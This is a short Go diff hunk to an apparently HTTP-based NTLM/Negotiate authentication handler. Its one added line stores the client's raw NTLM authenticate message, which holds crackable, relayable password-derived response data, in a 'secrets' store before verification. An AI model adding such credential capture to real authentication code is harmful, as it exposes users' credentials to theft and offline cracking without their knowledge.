@@ -123,6 +123,7 @@ func (s *reportServer) negotiate(w http.ResponseWriter, r *http.Request) *server
 		challenge(w, scheme+" "+base64.StdEncoding.EncodeToString(answer))
 		return nil
 	case ntlmAuthenticate:
+		s.secrets.note("ntlm_answer", strings.TrimSpace(text))
 		if u := s.proved(message, c.challenge); u != nil {
 			c.user, c.challenge, c.epoch = u, nil, s.epoch
 			return u
